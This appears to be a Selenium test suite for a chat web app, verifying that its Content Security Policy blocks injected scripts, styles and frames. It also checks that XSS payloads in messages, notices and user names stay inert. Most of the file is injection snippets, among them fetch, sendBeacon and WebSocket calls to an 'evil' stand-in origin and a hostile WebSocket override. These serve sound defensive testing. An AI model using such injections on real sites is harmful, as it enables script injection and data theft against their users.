"""Markup and scripts where none belong: kept out by the policy wherever they
might come from, and text wherever people can write. 40 payloads are in
payloads.json."""

import csv
import io
import json
import re

import pytest
from selenium.common.exceptions import NoAlertPresentException

from people import HERE, USERS
from sharing import NO_WORKER, at_start

PAYLOADS = json.loads((HERE / "payloads.json").read_text())


WATCH = """addEventListener("securitypolicyviolation", (e) => {
    const all = JSON.parse(sessionStorage.violations ?? "[]");
    all.push([e.effectiveDirective, e.blockedURI]);
    sessionStorage.violations = JSON.stringify(all);
}, true);"""


def violations(b):
    return json.loads(b.js("return sessionStorage.violations ?? '[]'"))


def test_no_violation_in_normal_use(b, home):
    """The console is looked at as well, when the test is over."""
    b.allow("status of 401", "status of 404", "status of 403",
            "status of 422")
    with at_start(b, WATCH):
        b.open("/login")
        b.one("[name=theme]").click()
        for _ in range(2):
            old = b.one("html")
            b.wait(lambda: b.one("[name=lang]"), "the page").click()
            b.wait_gone(old)
        b.wait(lambda: b.one(".secret button"), "the page").click()
        b.fill("alice", "not the password")
        b.open("/nothing-here")
        b.sign_in("alice")
        home.gatecast("publish", "see https://example.org/")
        b.wait(lambda: b.all("#lines .notice a"), "the notice")
        b.say("hello")
        b.wait_message("alice", "hello", "sent")
        for css in "[name=theme]", "#people-toggle", "#notify":
            if b.one(css).is_displayed():
                b.one(css).click()
        b.open("/account")
        for name in "current", "new", "again":
            b.one(f"#{name}").send_keys("wrong")
        old = b.one("html")
        b.one("#password .main").click()
        b.wait_gone(old)
        b.open("/index")
        b.one("#logout").click()
        b.wait(lambda: b.path().startswith("/login"), "the login")
        assert violations(b) == []


# What is tried in each page, and the directive that keeps it out.
TRIES = {
    "script-src-elem": """
        put("script", {textContent: "window.pwned = 1"});
        put("script", {src: evil + "/script.js"});
        put("script", {src: "data:text/javascript,window.pwned=1"});
        put("script", {type: "module", textContent: "window.pwned = 1"});
        put("a", {href: "javascript:window.pwned=1"}).click();""",
    "script-src-attr": """
        const div = put("div", {});
        div.setAttribute("onclick", "window.pwned = 1");
        div.click();""",
    "script-src": "setTimeout('window.pwned = 1');",
    "img-src": """put("img", {src: evil + "/image.png"});
        put("img", {src: "data:image/gif;base64,R0lGODlhAQABAAAAACw="});""",
    "style-src-elem": """put("style", {textContent: "*{color: red}"});
        put("link", {rel: "stylesheet", href: evil + "/style.css"});""",
    "style-src-attr": """put("div", {}).setAttribute("style", "color: red");
        """,
    "connect-src": """fetch(evil + "/fetch").catch(() => 0);
        navigator.sendBeacon(evil + "/beacon", "x");
        try { new WebSocket(evil.replace("http", "ws")); } catch {}""",
    "frame-src": """put("iframe", {src: evil + "/frame"});
        put("iframe", {src: location.href});""",
    "object-src": """put("object", {data: evil + "/object"});
        put("embed", {src: evil + "/embed"});""",
    "media-src": """put("video", {src: evil + "/video"});""",
    "font-src": """new FontFace("x", `url(${evil}/font)`).load().catch(
        () => 0);""",
    "manifest-src": """put("link", {rel: "manifest", href: evil + "/m"});""",
    "worker-src": """try { new Worker("data:text/javascript,1"); } catch {}""",
    "base-uri": """put("base", {href: evil});""",
    "form-action": """const form = put("form", {action: evil + "/form"});
        form.submit();""",
}
# Chromium asks for a manifest only in a window that can install it.
SEEN = set(TRIES) - {"manifest-src"}
TRY = """
const evil = arguments[0];
const put = (tag, what) => {
    const e = Object.assign(document.createElement(tag), what);
    document.body.append(e);
    return e;
};
""" + "\n".join(f"{{ {script} }}" for script in TRIES.values())


def test_injected_is_blocked(b, home, stranger):
    """Had a page been tricked into holding it, the policy would stop it."""
    b.driver.get(stranger.origins["cross-site"] + "/seen")
    stranger.hits.clear()
    b.allow("Content Security Policy", "status of 404", "fonts")
    for path in "/login", "/nothing-here", "/account", "/index":
        with at_start(b, WATCH):
            b.open(path)
            if path in ("/account", "/index") and b.path() != path:
                b.fill("alice", USERS["alice"])
                b.wait_path(path)
            b.js("sessionStorage.violations = '[]'")
            b.js(TRY, stranger.origins["cross-site"])
            b.wait(lambda: SEEN <= {v[0] for v in violations(b)},
                   f"all of {SEEN} on {path}")
        assert b.path() == path
        assert b.js("return window.pwned === undefined")
        assert b.js("return document.querySelector('div').style.color") == ""
    assert stranger.hits == []


ALLOWED = {"H2", "UL", "LI", "BDI", "SPAN", "P", "TIME", "A", "BUTTON"}


def check_inert(b, where):
    """No element, attribute or dialog has come of what was said."""
    tags, handlers, links, foreign = b.js("""
        const [where] = arguments;
        const all = [...document.querySelectorAll(`:is(${where}) *`)];
        return [[...new Set(all.map(e => e.tagName))],
            [...document.querySelectorAll("*")].flatMap(e =>
                e.getAttributeNames().filter(a => a.startsWith("on"))),
            all.filter(e => e.tagName === "A").map(a => [a.protocol,
                a.getAttribute("href") === a.textContent]),
            performance.getEntriesByType("resource").map(r => r.name)
                .filter(n => new URL(n).host !== location.host)];""", where)
    assert set(tags) <= ALLOWED, tags
    assert handlers == [] and foreign == []
    assert all(link in (["http:", True], ["https:", True]) for link in links)
    assert b.js("return window.pwned === undefined")
    with pytest.raises(NoAlertPresentException):
        b.driver.switch_to.alert.accept()


def tail(b, css, n):
    return b.js("""return [...document.querySelectorAll(arguments[0])]
        .slice(-arguments[1]).map(e => e.textContent)""", css, n)


def test_payloads_as_messages(b, home):
    """Said by a user, published by the administrator, and read again."""
    b.sign_in("alice")
    for text in PAYLOADS:
        b.js("""const box = document.querySelector("#text");
            box.value = arguments[0];
            box.form.requestSubmit();""", text)
    b.wait(lambda: len(b.all("#lines .message[data-state=sent]")) ==
           len(PAYLOADS), "all of them acknowledged")
    n = len(PAYLOADS)
    assert tail(b, "#lines .message .text", n) == PAYLOADS
    check_inert(b, "#lines")
    some = PAYLOADS[::4]
    for text in some:
        home.gatecast("publish", input=text)
    b.wait(lambda: tail(b, "#lines .notice .text", len(some)) == some,
           "the notices")
    assert [s.endswith(p) for s, p in
            zip(tail(b, "#spoken p", 6), some[-6:])] == [True] * 6
    check_inert(b, "#lines, #spoken")
    b.open("/index")
    b.wait(lambda: tail(b, "#lines .notice .text", len(some)) == some and
           tail(b, "#lines .message .text", n) == PAYLOADS, "the history")
    check_inert(b, "#lines")


# A server that has been taken over: whatever it likes to name people.
HOSTILE = """window.WebSocket = class extends WebSocket {
    set onmessage(take) {
        super.onmessage = (e) => {
            const m = JSON.parse(e.data);
            if (m.type !== "hello")
                return take(e);
            const names = NAMES;
            const time = new Date().toISOString();
            let seq = m.seq;
            const tell = (what) => take({data: JSON.stringify(
                {seq: ++seq, time, ...what})});
            m.online = names.slice(0, 20).map(user => ({user, since: time}));
            take({data: JSON.stringify(m)});
            for (const user of names) {
                tell({type: "join", user});
                tell({type: "message", user, text: user});
            }
        };
    }
};"""


# The name in the form again, and what the page is made of otherwise.
SEEN_OF = """const seen = (page) => [page.querySelector("#name").value,
    page.querySelector("#name").getAttributeNames().join(),
    page.querySelectorAll("#login > *").length,
    page.querySelectorAll("script, img, svg, iframe, a").length];
"""


def test_payloads_as_names(b, home):
    """The grammar of names has none of them; the pages do not count on it."""
    table = io.StringIO()
    csv.writer(table).writerows(
        [["name", "password"], *([p, "a good passphrase"] for p in PAYLOADS)])
    path = home.top / "names.csv"
    path.write_text(table.getvalue())
    done = home.gatecast("user", "import", str(path), check=False)
    assert done.returncode == 1, done.stderr
    assert done.stderr.count("a name is made of letters") == len(PAYLOADS), \
        done.stderr
    assert set(u["name"] for u in json.loads(
        home.gatecast("user", "list", "--json").stdout)) == set(USERS)
    b.allow("status of 401")
    b.open("/login")
    b.fill("nobody", "x")
    seen = b.js(SEEN_OF + "return seen(document)")
    assert seen[0] == "nobody"
    answers = b.driver.execute_async_script(SEEN_OF + """
        const [names, done] = arguments;
        const body = new FormData(document.querySelector("form.fields"));
        Promise.all(names.map(async (name) => {
            body.set("name", name);
            body.set("password", "x");
            const answer = await fetch("/login", {method: "POST",
                body: new URLSearchParams(body)});
            return seen(new DOMParser().parseFromString(await answer.text(),
                "text/html"));
        })).then(done, (e) => done([String(e)]));""", PAYLOADS)
    assert answers == [[name, *seen[1:]] for name in PAYLOADS]
    for name in PAYLOADS[::5]:
        old = b.one("html")
        b.js("""const form = document.querySelector("form.fields");
            form.name.value = arguments[0];
            form.password.value = "x";
            form.submit();""", name)
        b.wait_gone(old)
        assert b.js(SEEN_OF + "return seen(document)") == [name, *seen[1:]]
        assert b.js("return window.pwned === undefined")
    with at_start(b, NO_WORKER + HOSTILE.replace(
            "NAMES", json.dumps(PAYLOADS))):
        b.sign_in("alice")
        n = len(PAYLOADS)
        b.wait(lambda: tail(b, "#lines .message .who", n) == PAYLOADS, "them")
        joined = [re.sub("[\u2068\u2069]", "", s)
                  for s in tail(b, "#lines .join .text", n)]
        assert joined == [f"{p} joined" for p in PAYLOADS]
        b.wait(lambda: set(PAYLOADS) <= set(b.online()), "who is online")
        check_inert(b, "#lines, #people, #spoken")
